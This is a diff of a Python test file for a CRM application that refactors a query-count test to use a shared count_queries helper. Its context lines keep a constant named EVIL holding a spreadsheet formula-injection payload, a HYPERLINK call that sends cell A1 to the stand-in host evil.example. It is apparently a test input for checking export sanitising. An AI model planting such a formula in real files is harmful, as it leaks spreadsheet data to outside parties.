@@ -45,6 +45,7 @@ from crm.leads import services
 from crm.targets.models import Target
 from crm.visits.services import log_visit
 from tests import factories
+from tests.querycount import count_queries
 
 AS_OF = dt.date(2025, 6, 30)
 EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
@@ -112,28 +113,20 @@ def test_data_is_scoped_for_a_head(scenario):
 
 
 def test_a_fixed_number_of_queries(scenario):
-    def count_queries():
-        statements = []
-
-        def listener(*args):
-            statements.append(args[2])
-
-        sa.event.listen(db.engine, "before_cursor_execute", listener)
-        try:
-            db.session.expire_all()
+    def measure():
+        db.session.expire_all()
+        with count_queries() as c:
             data = bulletin_data(scenario.admin, AS_OF)
             [(i.officer_name, i.lead.township.name) for i in data.leads]
-        finally:
-            sa.event.remove(db.engine, "before_cursor_execute", listener)
-        return len(statements), len(data.leads)
+        return c["n"], len(data.leads)
 
-    before, n_before = count_queries()
+    before, n_before = measure()
     for i, (unit, officer) in enumerate([(scenario.a, scenario.off_a2), (scenario.b, scenario.off_b1),
                                          (scenario.c, None)] * 2):
         factories.lead(scenario.admin, unit, name=f"加测{i}", company=f"加测{i}", created_on=d(5, 1),
                        primary_officer_id=officer.id if officer else None)
     db.session.commit()
-    after, n_after = count_queries()
+    after, n_after = measure()
     assert n_after == n_before + 6
     assert 0 < after == before
 
